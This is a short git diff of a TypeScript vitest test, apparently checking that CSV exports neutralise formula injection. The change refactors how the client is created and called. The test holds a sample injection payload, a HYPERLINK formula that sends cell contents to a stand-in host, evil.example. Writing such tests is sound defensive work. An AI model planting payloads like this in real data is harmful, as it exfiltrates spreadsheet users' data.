@@ -6,7 +6,7 @@ import { tmpdir } from "node:os";
 import path from "node:path";
 import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { createClient } from "../../src/client.ts";
+import { clientOptionsFromSettings, createClient } from "../../src/client.ts";
 import { settingsSchema } from "../../src/core/config/schema.ts";
 import { humanLine } from "../../src/core/logging/logger.ts";
 import { type RunningEmulator, startEmulator } from "../../src/emulator/index.ts";
@@ -186,8 +186,8 @@ describe("CSV formula injection, end to end", () => {
       dataDir: path.join(d, ".cxo"),
     });
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    const client = createClient({ settings });
-    await client.dispositions.setCallDisposition(call.id, {
+    const client = createClient(clientOptionsFromSettings(settings));
+    await client.port.dispositions.setCallDisposition(call.id, {
       dispositionCodeId: "BUSY",
       notes: formula,
       tags: [],
